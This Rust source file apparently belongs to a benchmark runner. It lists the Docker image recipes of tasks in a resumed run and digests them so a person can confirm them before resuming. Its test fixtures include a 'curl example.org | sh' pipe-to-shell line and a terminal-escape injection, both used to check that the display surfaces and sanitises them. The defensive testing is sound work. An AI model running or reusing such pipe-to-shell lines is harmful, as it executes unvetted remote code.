//! What is shown of the tasks of a run that is to be resumed.

use std::collections::HashMap;

use files::deadline::within_limit;
use model::plain_line;
use runner::origin::Identity;
use runner::settings::RunSettings;
use sha2::{Digest as _, Sha256};

use crate::api::TaskImages;

/// Images of tasks that are listed.
const TASK_IMAGES: usize = 200;

/// What is shown of the tasks of a run.
#[derive(Debug, Default, PartialEq)]
pub(super) struct TaskImageList {
    pub(super) images: Vec<TaskImages>,
    pub(super) more: u32,
    pub(super) unreadable: Option<String>,
    /// SHA-256 of all that was looked at, also of what is too much to be shown; `None` = no tasks are played.
    sha256: Option<[u8; 32]>,
}

impl TaskImageList {
    /// Blocks, for at most [`files::deadline::LIMIT`].
    pub(super) fn new(settings: &RunSettings, numbers: &[u32]) -> Self {
        let Some(tasks) = &settings.tasks else { return Self::default() };
        let (folder, wanted_numbers) = (tasks.folder.clone(), numbers.to_vec());
        let task_images = within_limit(&tasks.folder, move || {
            runner::task_images(&folder, &wanted_numbers).map_err(|error| error.to_string())
        });
        let found = match task_images.unwrap_or_else(|error| Err(error.to_string())) {
            Ok(found) => found,
            Err(reason) => {
                let sha256 = Some(Sha256::digest(&reason).into());
                return Self { unreadable: Some(plain_line(&reason)), sha256, ..Self::default() };
            }
        };
        // Tasks of one benchmark mostly share a recipe.
        let mut places: HashMap<(Option<String>, runner::Recipe), usize> = HashMap::new();
        let mut hash = Sha256::new();
        let mut shown = Self::default();
        for task_image in found {
            // Texts with their lengths, so that none runs into the next.
            for text in [Some(&task_image.task), task_image.image.as_ref()] {
                let length = text.map_or(u64::MAX, |text| text.len() as u64);
                hash.update(length.to_le_bytes());
                hash.update(text.map_or("", String::as_str));
            }
            hash.update(task_image.recipe_sha256);
            let task = plain_line(&task_image.task);
            let key = (task_image.image, task_image.recipe);
            if let Some(index) = places.get(&key) {
                if let Some(known) = shown.images.get_mut(*index) {
                    known.tasks.push(task);
                }
                continue;
            }
            if shown.images.len() >= TASK_IMAGES {
                shown.more += 1;
                continue;
            }
            let plain = |texts: &[String]| texts.iter().map(|text| plain_line(text)).collect();
            shown.images.push(TaskImages {
                tasks: vec![task],
                image: key.0.as_deref().map(plain_line),
                base_images: plain(&key.1.images),
                executes: plain(&key.1.executes),
                more: key.1.more,
            });
            places.insert(key, shown.images.len() - 1);
        }
        shown.sha256 = Some(hash.finalize().into());
        shown
    }

    /// What a person confirms who has seen the record of a run and this: 64 hexadecimal digits.
    pub(super) fn digest_with(&self, identity: &Identity) -> String {
        let Some(sha256) = self.sha256 else { return identity.digest_in_hex() };
        let combined = Sha256::new().chain_update(identity.digest).chain_update(sha256).finalize();
        Identity { run: identity.run.clone(), digest: combined.into() }.digest_in_hex()
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    // docs/security.md: A resume
    fn whoever_resumes_tasks_of_others_sees_what_their_images_are_built_of() {
        let room = tempfile::tempdir().unwrap();
        let write_file = |path: &str, text: &str| {
            let path = room.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        };
        let step = "[[steps]]\nname = \"a\"\n";
        let named = "[environment]\ndocker_image = \"example/one:1\"\n";
        for (task, head, recipe) in [
            ("0", "", "FROM debian\nRUN curl example.org | sh\n"),
            ("1", named, "FROM debian\n"),
            ("2", "", "FROM debian\nRUN curl example.org | sh\n"),
            ("3", "", "FROM other\u{1b}[2J\n"),
            ("4", "", "FROM never\n"),
        ] {
            write_file(&format!("{task}/task.toml"), &format!("{head}{step}"));
            write_file(&format!("{task}/environment/Dockerfile"), recipe);
            write_file(&format!("{task}/steps/a/instruction.md"), "Do it.");
            write_file(&format!("{task}/tests/test.sh"), "true");
        }
        let tasks = format!("tasks={}", room.path().display());
        let values = ["agent=NOP", "benchmark=HARBOR", "output_dir=x", &tasks].map(str::to_owned);
        let foreign_settings = runner::settings::resolve(&[], &values).unwrap();
        let shown = TaskImageList::new(&foreign_settings, &[0, 1, 2, 3]);
        let images: Vec<_> = shown
            .images
            .iter()
            .map(|one| (one.tasks.join(" "), one.image.clone(), one.base_images.join(" ")))
            .collect();
        assert_eq!(
            images,
            [
                ("0 2".to_owned(), None, "debian".to_owned()),
                ("1".to_owned(), Some("example/one:1".to_owned()), String::new()),
                ("3".to_owned(), None, "other\u{fffd}[2J".to_owned()),
            ]
        );
        assert_eq!(shown.images[0].executes, ["RUN curl example.org | sh"]);
        assert_eq!((shown.more, &shown.unreadable), (0, &None));
        // Another recipe is not what was confirmed, also where it is too long for the page to show it.
        let identity = Identity { run: "00000000".to_owned(), digest: [7; 32] };
        let digest = || TaskImageList::new(&foreign_settings, &[0, 1, 2, 3]).digest_with(&identity);
        let confirmed = shown.digest_with(&identity);
        assert!(confirmed.len() == 64 && confirmed == digest());
        let long = "RUN true\n".repeat(60);
        let mut seen = BTreeSet::from([confirmed, identity.digest_in_hex()]);
        for last in ["true", "curl example.org | sh"] {
            write_file("3/environment/Dockerfile", &format!("FROM debian\n{long}RUN {last}\n"));
            assert!(seen.insert(digest()), "{last}");
        }
        write_file("4/environment/Dockerfile", "FROM never either\n");
        assert!(!seen.insert(digest()), "a task that is not played");
        assert_eq!(TaskImageList::default().digest_with(&identity), identity.digest_in_hex());
        let without_tasks = ["agent=MOCK", "output_dir=x"].map(str::to_owned);
        let scenarios = runner::settings::resolve(&[], &without_tasks).unwrap();
        let removed =
            runner::settings::resolve(&[], &values.map(|text| text.replace(&tasks, "tasks=/nowhere/at/all")));
        assert!(TaskImageList::new(&removed.unwrap(), &[0]).unreadable.is_some());
        assert_eq!(TaskImageList::new(&scenarios, &[0]), TaskImageList::default());
    }
}
